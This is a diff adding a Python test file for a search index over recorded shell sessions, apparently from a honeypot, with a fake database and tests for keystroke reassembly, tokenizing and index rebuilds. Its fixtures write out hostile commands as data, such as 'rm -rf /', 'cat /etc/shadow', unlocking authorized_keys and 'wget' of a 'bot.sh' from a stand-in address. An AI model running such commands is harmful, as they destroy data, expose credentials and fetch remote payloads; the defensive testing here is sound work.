@@ -0,0 +1,289 @@
+import asyncio
+import base64
+import copy
+import sys
+from datetime import datetime
+
+from storage import campaigns, database, search
+
+STARTED = datetime(2026, 1, 15, 3, 4, 5)
+
+
+def _get(doc: dict, field: str):
+    for part in field.split("."):
+        if not isinstance(doc, dict) or part not in doc:
+            return None
+        doc = doc[part]
+    return doc
+
+
+def _matches(doc: dict, filt: dict) -> bool:
+    for field, cond in filt.items():
+        if field == "$nor":
+            if any(_matches(doc, f) for f in cond):
+                return False
+            continue
+        value = _get(doc, field)
+        values = value if isinstance(value, list) else [value]
+        if isinstance(cond, dict) and any(k.startswith("$") for k in cond):
+            for op, arg in cond.items():
+                ok = {
+                    "$in": lambda: any(v in arg for v in values),
+                    "$ne": lambda: arg not in values,
+                    "$lt": lambda: value is not None and value < arg,
+                    "$gte": lambda: value is not None and value >= arg,
+                    "$exists": lambda: (_get(doc, field) is not None) == arg,
+                }[op]()
+                if not ok:
+                    return False
+        elif cond not in values and value != cond:
+            return False
+    return True
+
+
+def _project(doc: dict, projection: dict | None) -> dict:
+    doc = copy.deepcopy(doc)
+    if projection:
+        included = [k for k, v in projection.items() if v and k != "_id"]
+        if included:
+            doc = {k: doc[k] for k in included + ["_id"] if k in doc}
+        if not projection.get("_id", 1):
+            doc.pop("_id", None)
+    return doc
+
+
+class FakeCursor:
+    def __init__(self, docs: list[dict]) -> None:
+        self._docs = docs
+
+    def sort(self, key: str, direction: int = 1) -> "FakeCursor":
+        self._docs.sort(key=lambda d: _get(d, key), reverse=direction < 0)
+        return self
+
+    async def to_list(self, length=None) -> list[dict]:
+        return self._docs[:length] if length else self._docs
+
+    def __aiter__(self):
+        return self._iter()
+
+    async def _iter(self):
+        for doc in self._docs:
+            yield doc
+
+
+class FakeCollection:
+    def __init__(self) -> None:
+        self.docs: list[dict] = []
+        self._ids = 0
+
+    def _apply(self, doc: dict, update: dict) -> None:
+        for field, value in update.get("$set", {}).items():
+            doc[field] = value
+        for field, value in update.get("$inc", {}).items():
+            doc[field] = doc.get(field, 0) + value
+        for field, value in update.get("$push", {}).items():
+            doc.setdefault(field, []).append(value)
+
+    def _upsert(self, filt: dict) -> dict:
+        self._ids += 1
+        doc = {"_id": self._ids, **{k: v for k, v in filt.items() if not isinstance(v, dict)}}
+        self.docs.append(doc)
+        return doc
+
+    def find(self, filt: dict | None = None, projection: dict | None = None) -> FakeCursor:
+        return FakeCursor([_project(d, projection) for d in self.docs if _matches(d, filt or {})])
+
+    async def find_one(self, filt: dict | None = None, projection: dict | None = None, sort=None) -> dict | None:
+        cursor = self.find(filt, projection)
+        for key, direction in sort or []:
+            cursor.sort(key, direction)
+        found = await cursor.to_list()
+        return found[0] if found else None
+
+    async def find_one_and_update(self, filt: dict, update: dict, upsert: bool = False, return_document=None) -> dict:
+        doc = next((d for d in self.docs if _matches(d, filt)), None) or self._upsert(filt)
+        self._apply(doc, update)
+        return copy.deepcopy(doc)
+
+    async def update_one(self, filt: dict, update: dict, upsert: bool = False) -> None:
+        doc = next((d for d in self.docs if _matches(d, filt)), None)
+        if doc is None and upsert:
+            doc = self._upsert(filt)
+        if doc is not None:
+            self._apply(doc, update)
+
+    async def replace_one(self, filt: dict, replacement: dict, upsert: bool = False) -> None:
+        self.docs = [d for d in self.docs if not _matches(d, filt)]
+        self._upsert({})
+        self.docs[-1].update(copy.deepcopy(replacement))
+
+    async def insert_many(self, docs: list[dict], ordered: bool = True) -> None:
+        for doc in docs:
+            self._upsert({}).update(copy.deepcopy(doc))
+
+    async def bulk_write(self, ops: list, ordered: bool = True) -> None:
+        for op in ops:
+            await self.update_one(op._filter, op._doc, upsert=op._upsert)
+
+    async def delete_many(self, filt: dict) -> None:
+        self.docs = [d for d in self.docs if not _matches(d, filt)]
+
+    async def delete_one(self, filt: dict) -> None:
+        match = next((d for d in self.docs if _matches(d, filt)), None)
+        if match is not None:
+            self.docs.remove(match)
+
+    async def drop(self) -> None:
+        self.docs = []
+
+    async def create_index(self, *args, **kwargs) -> None:
+        pass
+
+
+class FakeDB:
+    def __init__(self) -> None:
+        self._collections: dict[str, FakeCollection] = {}
+
+    def __getattr__(self, name: str) -> FakeCollection:
+        return self[name]
+
+    def __getitem__(self, name: str) -> FakeCollection:
+        return self._collections.setdefault(name, FakeCollection())
+
+
+def _with_db() -> FakeDB:
+    fake = FakeDB()
+    search.get_db = campaigns.get_db = lambda: fake
+    search._buffers.clear()
+    search._pending.clear()
+    return fake
+
+
+def _restore() -> None:
+    search.get_db = campaigns.get_db = database.get_db
+    search._buffers.clear()
+    search._pending.clear()
+
+
+def _session(session_id: str, **extra) -> dict:
+    return {"session_id": session_id, "source_ip": "203.0.113.9", "started_at": STARTED, **extra}
+
+
+def _keystroke(session_id: str, data: bytes, direction: str = "input") -> dict:
+    return {"session_id": session_id, "timestamp": STARTED, "direction": direction,
+            "data": base64.b64encode(data).decode()}
+
+
+async def _hits(**kwargs) -> list[str]:
+    hits, _ = await search.query(**kwargs)
+    return [h["session_id"] for h in hits]
+
+
+def test_postings_roundtrip() -> None:
+    doc_ids = [3, 1, 70000, 128, 129, 5_000_000]
+    blob = search.encode_postings(doc_ids)
+
+    assert search.decode_postings(blob) == sorted(doc_ids)
+    assert len(blob) < len(doc_ids) * 4, f"Postings not compact: {len(blob)}B"
+
+    print(f"[+] PASS — {len(doc_ids)} postings in {len(blob)}B")
+
+
+def test_input_line_assembly() -> None:
+    session_id = "test-lines"
+    search.feed(session_id, b"chattr -i /root/.ssh/auth", "input")
+    search.feed(session_id, b"orized_keyx\x7fs\r", "input")
+    search.feed(session_id, b"\x1b[Awhoami\r", "input")
+    search.feed(session_id, b"rm -rf /\x03", "input")
+    search.feed(session_id, b"\x1b[32mroot\x1b[0m\r\n", "output")
+
+    lines, output = search._finish(session_id)
+
+    assert lines == ["chattr -i /root/.ssh/authorized_keys", "whoami"], lines
+    assert output == "root\r\n", repr(output)
+
+    print(f"[+] PASS — input lines reassembled: {lines}")
+
+
+def test_terms_and_trigrams() -> None:
+    line = "chattr -i /root/.ssh/authorized_keys"
+
+    assert {"chattr", "-i", "root", ".ssh", "authorized_keys"} <= search.terms(line)
+    assert search.trigrams("authorized_keys") <= search.trigrams(line)
+    assert "cha" in search.trigrams("CHAttr")
+
+    print(f"[+] PASS — tokenizer")
+
+
+def test_index_and_query_channels() -> None:
+    async def scenario() -> None:
+        _with_db()
+        session = _session("multi")
+        for channel, line in ((0, b"cat /etc/sha"), (1, b"wget http://198."), (0, b"dow\r"), (1, b"51.100.7/x\r")):
+            search.feed("multi", line, "input", channel)
+        search.feed("multi", b"root:x:0:0", "output", 0)
+        lines = await search.index_session(session)
+        await search.flush()
+
+        assert lines == ["cat /etc/shadow", "wget http://198.51.100.7/x"], f"Channels interleaved: {lines}"
+        assert "multi" not in search._buffers, "Buffers kept after indexing"
+        assert await _hits(text="/etc/shadow") == ["multi"]
+        assert await _hits(term="wget", source_ip="203.0.113.9") == ["multi"]
+        assert await _hits(text="198.51.100.7/x") == ["multi"], "Substring across feeds not indexed"
+        assert await _hits(text="root:x:0") == ["multi"], "Output excerpt not searchable"
+        assert await _hits(text="shawget") == [], "Postings built from interleaved channel input"
+        assert await _hits(term="wget", source_ip="192.0.2.1") == []
+
+        search.feed("stale", b"uname -a", "input", 0)
+        search._buffers["stale"][0].touched -= search._BUFFER_IDLE_S + 1
+        search.feed("fresh", b"id", "input", 0)
+        assert search._evict_idle() == 1 and list(search._buffers) == ["fresh"], "Idle buffer not evicted"
+        search.discard("fresh")
+        assert not search._buffers
+
+    try:
+        asyncio.run(scenario())
+    finally:
+        _restore()
+
+    print(f"[+] PASS — per-channel buffers indexed into one queryable session doc")
+
+
+def test_rebuild_keeps_archived_sessions() -> None:
+    async def scenario() -> None:
+        db = _with_db()
+        await db.sessions.insert_many([_session("live"), _session("kept-meta", archived=["keystrokes"])])
+        await db.keystrokes.insert_many([_keystroke("live", b"wget http://198.51.100.7/bot.sh\r")])
+        await db.search_docs.insert_many([
+            {"doc_id": 1, "session_id": "kept-meta", "source_ip": "203.0.113.9", "started_at": STARTED,
+             "lines": ["chattr -i /etc/passwd"], "output": ""},
+            {"doc_id": 2, "session_id": "gone", "source_ip": "203.0.113.9", "started_at": STARTED,
+             "lines": ["crontab -r"], "output": "", "archived_day": "2026-01-15"},
+        ])
+
+        assert await search.rebuild() == 3
+        assert await _hits(text="chattr") == ["kept-meta"], "Session with archived keystrokes dropped or emptied"
+        assert await _hits(term="crontab") == ["gone"], "Archived session dropped from the index"
+        assert await _hits(text="bot.sh") == ["live"], "Live session not reindexed"
+        doc = await db.search_docs.find_one({"session_id": "live"})
+        assert doc["doc_id"] > 2, "Rebuilt doc reused an archived doc_id"
+
+    try:
+        asyncio.run(scenario())
+    finally:
+        _restore()
+
+    print(f"[+] PASS — rebuild keeps archived sessions searchable")
+
+
+if __name__ == "__main__":
+    try:
+        test_postings_roundtrip()
+        test_input_line_assembly()
+        test_terms_and_trigrams()
+        test_index_and_query_channels()
+        test_rebuild_keeps_archived_sessions()
+        print("\n[+] All search index tests passed.")
+    except AssertionError as exc:
+        print(f"\n[-] FAIL: {exc}", file=sys.stderr)
+        sys.exit(1)